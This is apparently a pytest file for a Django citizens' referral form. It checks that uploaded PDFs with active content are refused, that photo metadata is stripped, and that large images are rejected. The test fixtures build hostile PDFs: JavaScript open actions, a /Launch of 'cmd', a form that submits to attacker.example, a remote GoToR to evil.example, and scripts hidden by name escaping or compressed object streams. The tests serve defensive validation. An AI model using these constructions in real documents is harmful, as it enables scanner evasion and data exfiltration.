"""Uploaded files, through ``checked_file`` and through the citizens' form: PDFs that would
run something are refused, pictures are stored with their pixels and nothing else, and a
large picture costs bounded memory."""

import io
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    RectangleObject,
    TextStringObject,
)

from referrals import pdf_check
from referrals.models import Attachment
from referrals.uploads import MAX_PIXELS, checked_file
from tests.referrals.public_helpers import (
    field_errors,
    in_thai,
    isolate,
    pdf,
    pdf_bytes,
    png,
    png_bytes,
    request_form,
    stored_files,
)

NEW_REQUEST = "/requests/new/"
ACTIVE_CONTENT = (
    "This PDF contains scripts or embedded files, which we cannot accept. Save or print it "
    "again as a plain PDF and attach that."
)
TOO_LARGE = "This picture is too large."
SECRET_NOTE = b"Somchai's house, 13.7563 N 100.5018 E"


@pytest.fixture
def media(settings, tmp_path, monkeypatch):
    yield from isolate(settings, tmp_path, monkeypatch)


def stored(data: bytes) -> tuple[bytes, str]:
    """What ``checked_file`` keeps of an upload, and its content type."""
    content, content_type, _digest = checked_file(SimpleUploadedFile("upload", data))
    return content.read(), content_type


def refusal(data: bytes) -> str:
    """The code of the error ``checked_file`` raises for this upload."""
    with pytest.raises(ValidationError) as raised:
        checked_file(SimpleUploadedFile("upload", data))
    return raised.value.code


# --- PDFs -------------------------------------------------------------------------------


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def action(kind: str, **entries) -> DictionaryObject:
    fields = {NameObject("/S"): NameObject(kind)}
    fields.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
    return DictionaryObject(fields)


def script_in_the_names_tree() -> bytes:
    writer = one_page()
    writer.add_open_action(JavaScript("app.alert('hello')"))
    return written(writer)


def script_as_open_action() -> bytes:
    writer = one_page()
    writer.root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert(1)")
    return written(writer)


def program_launched_when_the_page_opens() -> bytes:
    writer = one_page()
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/Launch", F="cmd")})
    return written(writer)


def form_that_sends_its_data() -> bytes:
    writer = one_page()
    submit = action("/SubmitForm", F="https://attacker.example/")
    writer.root_object[NameObject("/OpenAction")] = submit
    return written(writer)


def embedded_file() -> bytes:
    writer = one_page()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return written(writer)


def escaped_script_name() -> bytes:
    """/S /J#61vaScript and /J#53 are /S /JavaScript and /JS, spelt with escapes."""
    writer = one_page()
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JQQQvaScript"),
            NameObject("/JZZZ"): TextStringObject("app.alert(1)"),
        }
    )
    data = written(writer)
    # Same lengths, so the cross-reference table stays right.
    return data.replace(b"/JQQQvaScript", b"/J#61vaScript").replace(b"/JZZZ", b"/J#53")


def script_object_outside_the_cross_reference_table() -> bytes:
    """An object after the end of the file that pypdf never reads; a viewer repairing the
    file finds it."""
    return pdf_bytes() + b"9 0 obj\n<</S/J#61vaScript/J#53(app.alert(1))>>\nendobj\n"


def in_object_stream(hidden: bytes) -> bytes:
    """A one-page PDF 1.5 whose catalog opens with ``hidden``, object 4, compressed in the
    object stream 5: a reader of object streams sees it, a search of the bytes does not."""
    header = b"4 0 "
    compressed = zlib.compress(header + hidden)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        5: stream(b"/Type/ObjStm/N 1/First %d/Filter/FlateDecode" % len(header), compressed),
    }
    data, offsets = bytearray(b"%PDF-1.5\n"), {}
    for number, body in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[6] = len(data)
    # The cross-reference stream, object 6: a row for each object from 0 to 6, each
    # (0: free, 1: at an offset, 2: in an object stream), then offset or stream, then
    # generation or index.
    rows = [(0, 0, 65535), *((1, offsets[n], 0) for n in (1, 2, 3)), (2, 5, 0)]
    rows += [(1, offsets[5], 0), (1, offsets[6], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    data += b"6 0 obj\n%s\nendobj\n" % stream(b"/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R", table)
    data += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(data)


def stream(entries: bytes, content: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def other_file_opened_when_the_page_opens() -> bytes:
    writer = one_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/GoToR", F="\\\\evil.example\\share\\a.pdf")}
    )
    return written(writer)


ACTIVE_PDFS = {
    "JavaScript in the names tree": script_in_the_names_tree,
    "JavaScript as the open action": script_as_open_action,
    "program launched when the page opens": program_launched_when_the_page_opens,
    "form that sends its data": form_that_sends_its_data,
    "embedded file": embedded_file,
    "JavaScript spelt with escapes": escaped_script_name,
    "JavaScript outside the cross-reference table": (
        script_object_outside_the_cross_reference_table
    ),
    "JavaScript in a compressed object stream": lambda: in_object_stream(
        b"<</S/JavaScript/JS(app.alert(1))>>"
    ),
    "JavaScript spelt with escapes, in a compressed object stream": lambda: in_object_stream(
        b"<</S/J#61vaScript/J#53(app.alert(1))>>"
    ),
    "embedded file in a compressed object stream": lambda: in_object_stream(
        b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"
    ),
    "web address opened as the file opens": lambda: in_object_stream(
        b"<</S/URI/URI(https://evil.example/track)>>"
    ),
    "other file opened when the page opens": other_file_opened_when_the_page_opens,
}


@pytest.mark.parametrize("make", ACTIVE_PDFS.values(), ids=list(ACTIVE_PDFS))
def test_a_pdf_with_active_content_is_refused(make):
    assert refusal(make()) == "active_content"


def link_and_open_at_first_page() -> bytes:
    writer = one_page()
    first = writer.pages[0]
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [first.indirect_reference, NameObject("/Fit")]
    )
    writer.add_uri(0, "https://www.doe.go.th/", RectangleObject([10, 10, 190, 40]))
    return written(writer)


ORDINARY_PDFS = {
    "blank page": pdf_bytes,
    "open at the first page, with a web link": link_and_open_at_first_page,
    "jump to a page, in a compressed object stream": lambda: in_object_stream(
        b"<</S/GoTo/D[3 0 R/Fit]>>"
    ),
    "action that leads back to itself": lambda: in_object_stream(
        b"<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"
    ),
}


@pytest.mark.parametrize("make", ORDINARY_PDFS.values(), ids=list(ORDINARY_PDFS))
def test_an_ordinary_pdf_is_kept_as_it_came(make):
    data = make()
    assert stored(data) == (data, "application/pdf")


def test_a_pdf_that_cannot_be_read_is_refused_as_damaged():
    assert refusal(b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R\n" + b"\0" * 200) == ("damaged")


def test_a_pdf_that_takes_too_long_to_read_whole_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_check, "CHECK_SECONDS", 0.0)
    assert refusal(pdf_bytes()) == "too_complex"


@pytest.mark.django_db
def test_the_form_explains_why_a_pdf_with_a_script_is_refused(client, media):
    script = SimpleUploadedFile("สัญญา.pdf", script_as_open_action(), "application/pdf")

    response = client.post(NEW_REQUEST, request_form(files=[png(), script]))

    assert response.status_code == 200
    assert field_errors(response, "files") == ["สัญญา.pdf: " + in_thai(ACTIVE_CONTENT)]
    assert stored_files(media) == []


# --- Pictures ---------------------------------------------------------------------------


def exif_with_location() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Somchai's phone"  # Make
    exif[0x8825] = {1: "N", 2: (13.0, 45.0, 22.7)}  # GPS
    return exif


SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' + SECRET_NOTE + b"</x:xmpmeta>"


def jpeg_with_metadata(size=(64, 48), exif=None) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(
        buffer,
        "JPEG",
        comment=SECRET_NOTE,
        exif=exif or exif_with_location(),
        icc_profile=SRGB,
        xmp=XMP,
        dpi=(300, 300),
    )
    data = buffer.getvalue()
    photoshop = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x08" + SECRET_NOTE[:8]
    app13 = b"\xff\xed" + struct.pack(">H", len(photoshop) + 2) + photoshop
    return data[:2] + app13 + data[2:]


def jpeg_segments(data: bytes) -> list[tuple[int, int, bytes]]:
    """(marker, position, content) of each segment before the compressed picture."""
    assert data[:2] == b"\xff\xd8"
    segments, position = [], 2
    while data[position + 1] != 0xDA:  # start of scan
        (length,) = struct.unpack(">H", data[position + 2 : position + 4])
        segments.append((data[position + 1], position, data[position + 4 : position + 2 + length]))
        position += 2 + length
    return segments


def png_with_metadata() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SECRET_NOTE.decode())
    text.add_text("Location", SECRET_NOTE.decode(), zip=True)
    text.add_itxt("XML:com.adobe.xmp", XMP.decode())
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(
        buffer, "PNG", pnginfo=text, icc_profile=SRGB, exif=exif_with_location(), dpi=(300, 300)
    )
    return buffer.getvalue()


def png_chunks(data: bytes) -> list[bytes]:
    chunks, position = [], 8
    while position < len(data):
        length, kind = struct.unpack(">I4s", data[position : position + 8])
        chunks.append(kind)
        position += 12 + length
    return chunks


def assert_jpeg_without_metadata(data: bytes) -> None:
    markers = [(marker, body[:5]) for marker, _position, body in jpeg_segments(data)]
    applications = [(marker, start) for marker, start in markers if 0xE0 <= marker <= 0xEF]
    assert applications == [(0xE0, b"JFIF\0")]
    assert 0xFE not in [marker for marker, _start in markers]  # comment
    assert b"\xff\xfe" not in data
    assert SECRET_NOTE not in data and b"Somchai" not in data


def test_nothing_but_the_pixels_of_a_jpeg_is_stored():
    original = jpeg_with_metadata()
    markers = {marker for marker, _position, _body in jpeg_segments(original)}
    assert {0xE1, 0xE2, 0xED, 0xFE} <= markers  # EXIF and XMP, ICC, Photoshop, comment

    data, content_type = stored(original)

    assert content_type == "image/jpeg"
    assert_jpeg_without_metadata(data)
    with Image.open(io.BytesIO(data)) as image:
        assert image.size == (64, 48)
        assert not image.getexif() and "icc_profile" not in image.info


def test_nothing_but_the_pixels_of_a_png_is_stored():
    original = png_with_metadata()
    assert {b"tEXt", b"zTXt", b"iTXt", b"iCCP", b"eXIf", b"pHYs"} <= set(png_chunks(original))

    data, content_type = stored(original)

    assert content_type == "image/png"
    assert png_chunks(data) == [b"IHDR", b"IDAT", b"IEND"]
    assert SECRET_NOTE not in data and b"Somchai" not in data
    with Image.open(io.BytesIO(data)) as image:
        assert image.size == (40, 30)


@pytest.mark.django_db
def test_a_photo_sent_with_the_form_is_stored_without_its_comment(client, media):
    photo = SimpleUploadedFile("บ้าน.jpg", jpeg_with_metadata(), "image/jpeg")

    response = client.post(NEW_REQUEST, request_form(files=[photo]))

    assert response.status_code == 302, field_errors(response, "files")
    attachment = Attachment.objects.get()
    with attachment.file.open("rb") as saved:
        assert_jpeg_without_metadata(saved.read())


# --- Large pictures ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def png_of_40_megapixels() -> bytes:
    """6300 x 6300 pixels in 131 KB: just under the former limit of 40 million."""
    return png_bytes(size=(6300, 6300))


def test_a_png_of_more_than_16_megapixels_is_refused(png_of_40_megapixels):
    assert refusal(png_of_40_megapixels) == "too_large"


# In a fresh interpreter, so that earlier tests' memory does not hide this check's; the
# peak is the kernel's high-water mark of the process (VmHWM), which, unlike ru_maxrss,
# does not start from the parent's size.
MEASURE_PEAK_MEMORY = """
import sys
from django.conf import settings
settings.configure(ATTACHMENT_MAX_BYTES=10 * 1024 * 1024, USE_I18N=False)
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from referrals.uploads import checked_file

def peak_kilobytes():
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))

upload = SimpleUploadedFile("big.png", sys.stdin.buffer.read())
before = peak_kilobytes()
try:
    checked_file(upload)
    print("accepted")
except ValidationError as error:
    print(error.code)
print(peak_kilobytes() - before)
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads Linux's /proc")
def test_checking_a_png_of_40_megapixels_refuses_it_before_decoding_it(png_of_40_megapixels):
    measured = subprocess.run(
        [sys.executable, "-c", MEASURE_PEAK_MEMORY],
        input=png_of_40_megapixels,
        capture_output=True,
        cwd=Path(__file__).resolve().parents[2],
        check=True,
        timeout=60,
    )
    code, growth = measured.stdout.decode().split()
    assert int(growth) < 20 * 1024, f"peak memory grew by {int(growth) // 1024} MB"
    assert code == "too_large"


def test_a_24_megapixel_photo_is_kept_at_half_its_size_and_upright():
    rotated = Image.Exif()
    rotated[0x0112] = 6  # Orientation: turn 90 degrees clockwise to view
    original = jpeg_with_metadata(size=(6000, 4000), exif=rotated)

    data, content_type = stored(original)

    with Image.open(io.BytesIO(data)) as image:
        assert image.width * image.height <= MAX_PIXELS
        assert image.size == (2000, 3000)
    assert content_type == "image/jpeg"
    assert_jpeg_without_metadata(data)


def test_a_jpeg_too_large_even_at_an_eighth_of_its_size_is_refused():
    data = bytearray(jpeg_with_metadata(size=(16, 16)))
    [frame] = [position for marker, position, _body in jpeg_segments(data) if marker == 0xC0]
    # The frame header: marker, length, precision, then height and width.
    data[frame + 5 : frame + 9] = struct.pack(">HH", 65000, 65000)
    assert refusal(bytes(data)) == "too_large"


@pytest.mark.django_db
def test_the_form_says_a_png_of_40_megapixels_is_too_large(client, media, png_of_40_megapixels):
    big = SimpleUploadedFile("แผนที่.png", png_of_40_megapixels, "image/png")

    response = client.post(NEW_REQUEST, request_form(files=[big, pdf()]))

    assert response.status_code == 200
    assert field_errors(response, "files") == ["แผนที่.png: " + in_thai(TOO_LARGE)]
    assert stored_files(media) == []
